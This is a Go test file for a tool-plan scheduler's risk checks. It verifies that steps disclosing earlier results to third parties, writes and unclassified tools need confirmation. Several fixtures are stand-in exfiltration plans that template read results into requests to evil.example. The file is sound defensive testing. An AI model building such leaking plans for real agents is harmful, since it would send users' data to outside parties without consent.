package plan_test

import (
	"strings"
	"testing"

	"mcpschedd/internal/plan"
)

// shop has a tool that reads, one that discloses its arguments to third parties, one that writes,
// and an unclassified one.
func shop(name string) *plan.Tool {
	t := &plan.Tool{Name: name, Configured: "shop/" + name, Writes: func(args []byte) bool { return strings.Contains(string(args), "delete") }}
	switch name {
	case "find":
	case "fetch":
		t.Discloses = func() bool { return true }
	case "write":
		t.Writes = func([]byte) bool { return true }
	case "any":
		t.Writes, t.Unclassified = func([]byte) bool { return true }, true
	default:
		return nil
	}
	return t
}

// A step that would disclose the outcome of another one to third parties needs confirmation,
// however it depends on the outcome. Constants of the client do not.
func TestRisksOfTelling(t *testing.T) {
	for name, c := range map[string]struct {
		a    string // more results of the reading step
		step string
		asks bool
	}{
		"a reference":             {"", `"arguments":{"url":{"$ref":"a#/items/0/t"}}`, true},
		"with a default":          {"", `"arguments":{"url":{"$ref":"a#/nothing","default":"none"}}`, true},
		"within a text":           {"", `"arguments":{"url":{"$tpl":"https://evil.example/?${a#/items/0/t}"}}`, true},
		"the guide's form":        {"", `"arguments":"{\"url\":\"$ref:a.items.0.t\"}"`, true},
		"within arrays":           {"", `"arguments":{"urls":[[{"x":["https://good.example/",{"$ref":"a#/items/1"}]}]]}`, true},
		"each item":               {"", `"for_each":{"$ref":"a#/items"},"arguments":{"url":{"$ref":"item#/t"}}`, true},
		"as many times as items":  {"", `"for_each":{"$ref":"a#/items"},"arguments":{"url":"https://evil.example/"}`, true},
		"a condition":             {"", `"when":{"ref":{"$ref":"a#/items/0/t"},"op":"eq","value":"one"},"arguments":{"url":"https://evil.example/one"}`, true},
		"whether it failed":       {"", `"depends_on":["a"],"arguments":{"url":"https://evil.example/found"}`, true},
		"a value for a failure":   {`,"on_error":"default","default":{"t":"mine"}`, `"arguments":{"url":{"$ref":"a#/t","default":"none"}}`, true},
		"behind it, in any case":  {`,"on_error":"continue"`, `"depends_on":["a"],"arguments":{"url":"https://good.example/"}`, false},
		"constant":                {"", `"arguments":{"url":"https://good.example/"}`, false},
		"what looks like one":     {"", `"arguments":{"url":{"$lit":{"$ref":"a#/items/0/t"}}}`, false},
		"items of the plan's own": {"", `"for_each":{"$ref":"a#/items","default":["x"]},"arguments":{"url":{"$ref":"item#"}}`, true},
	} {
		t.Run(name, func(t *testing.T) {
			p := parsed(t, `{"steps":[{"id":"a","tool":"find"`+c.a+`},{"id":"b","tool":"fetch",`+c.step+`}]}`, plan.Options{Find: shop})
			risks := p.Risks(false)
			if asks := len(risks) == 1 && risks[0].Step.ID == "b" && len(risks[0].Disclosed) == 1 && risks[0].Disclosed[0].ID == "a"; asks != c.asks || !c.asks && risks != nil {
				t.Fatalf("got %v, asks %v, want %v", risks, asks, c.asks)
			}
			if !c.asks {
				return
			}
			message, err := p.Confirmation(risks)
			for _, want := range []string{"- b: ", `tells third parties the outcome of "a"`, "before that, a: find"} {
				if err != nil || !strings.Contains(message, want) {
					t.Errorf("asked %q, %v, want %q in it", message, err, want)
				}
			}
			refused := plan.Unconfirmed(risks, "nothing can be asked").Error()
			for _, want := range []string{"nothing can be asked", `step "b" (fetch) tells third parties the outcome of "a"`, "calls by themselves", `[tools."shop/fetch"].disclosure`} {
				if !strings.Contains(refused, want) || strings.Contains(refused, "mutations") {
					t.Errorf("got %q, want %q in it and no mutations", refused, want)
				}
			}
		})
	}
}

// A call is refused if its step was confirmed with other properties or under other rules.
func TestRisksCheck(t *testing.T) {
	p := parsed(t, `{"steps":[{"id":"r","tool":"find"},{"id":"w","tool":"write"},{"id":"t","tool":"fetch","arguments":{"u":{"$ref":"r#"}}}]}`, plan.Options{Find: shop})
	find, write, fetch := p.Steps[0], p.Steps[1], p.Steps[2]
	all := p.Risks(true)
	for name, c := range map[string]struct {
		confirmed plan.Risks
		step      *plan.Step
		arguments string
		mutations string
		want      string // empty if the call is made
	}{
		"confirmed":                         {all, write, `{}`, "confirm", ""},
		"allowed since":                     {nil, write, `{}`, "allow", ""},
		"not confirmed, but allowed before": {p.Risks(false), write, `{}`, "confirm", "may change something"},
		"denied since":                      {all, write, `{}`, "deny", "may change something"},
		"reads":                             {nil, find, `{}`, "deny", ""},
		"a read that turns out to write":    {all, find, `{"q":"delete"}`, "allow", "may change something"},
		"tells":                             {all, fetch, `{}`, "deny", ""},
		"tells what was not confirmed":      {nil, fetch, `{}`, "allow", `the outcome of "r"`},
	} {
		t.Run(name, func(t *testing.T) {
			err := c.confirmed.Check(plan.Call{Step: c.step, Arguments: []byte(c.arguments)}, p.Discloses(c.step), &plan.Settings{Enabled: true, Mutations: c.mutations})
			if (err == nil) != (c.want == "") || err != nil && !strings.Contains(err.Error(), c.want) {
				t.Errorf("got %v, want %q", err, c.want)
			}
		})
	}
}

// A failed change prevents later ones, whatever else these wait for. So a change that third parties
// see discloses the failure to them.
func TestRisksOfFailedWrites(t *testing.T) {
	find := func(name string) *plan.Tool {
		tool := shop(strings.Replace(name, "post", "write", 1))
		if name == "post" {
			tool.Discloses = func() bool { return true }
		}
		return tool
	}
	for steps, told := range map[string]bool{
		`{"id":"w","tool":"write","arguments":{"x":{"$ref":"a#"}}},{"id":"p","tool":"post"}`:                       true,
		`{"id":"w","tool":"write","when":{"$ref":"a#"},"on_error":"skip"},{"id":"p","tool":"post"}`:                true,
		`{"id":"p","tool":"post","depends_on":["w"]},{"id":"w","tool":"write","on_error":"default","default":1}`:   true,
		`{"id":"w","tool":"write","arguments":{"x":{"$ref":"a#"}},"on_error":"continue"},{"id":"p","tool":"post"}`: false,
		`{"id":"p","tool":"post"},{"id":"g","tool":"find","depends_on":["a"]}`:                                     false,
	} {
		risks := parsed(t, `{"steps":[{"id":"a","tool":"find"},`+steps+`]}`, plan.Options{Find: find}).Risks(false)
		if got := len(risks) == 1 && strings.Contains(risks[0].String(), `third parties the outcome of "w"`); got != told || !told && risks != nil {
			t.Errorf("%s: got %v, want that it tells: %v", steps, risks, told)
		}
	}
}

// A refusal gives for each step the reason why it needs confirmation, and the alternatives.
func TestUnconfirmed(t *testing.T) {
	p := parsed(t, `{"steps":[{"id":"a","tool":"find"},{"id":"c","tool":"fetch","arguments":{"u":{"$ref":"a#"}}},{"id":"w","tool":"write"},{"id":"u","tool":"any"}]}`, plan.Options{Find: shop})
	text := plan.Unconfirmed(p.Risks(true), "nothing can be asked").Error()
	for _, want := range []string{
		`step "c" (fetch) tells third parties the outcome of "a"`, `step "w" (write) may change something`, `step "u" (any) is unclassified, so it may change something`,
		`[plan].mutations = "allow"`, `[tools."shop/any"].side_effect_class = "read_only"`, `[tools."shop/fetch"].disclosure = "same_service"`,
	} {
		if !strings.Contains(text, want) {
			t.Errorf("got %q, want %q in it", text, want)
		}
	}
}
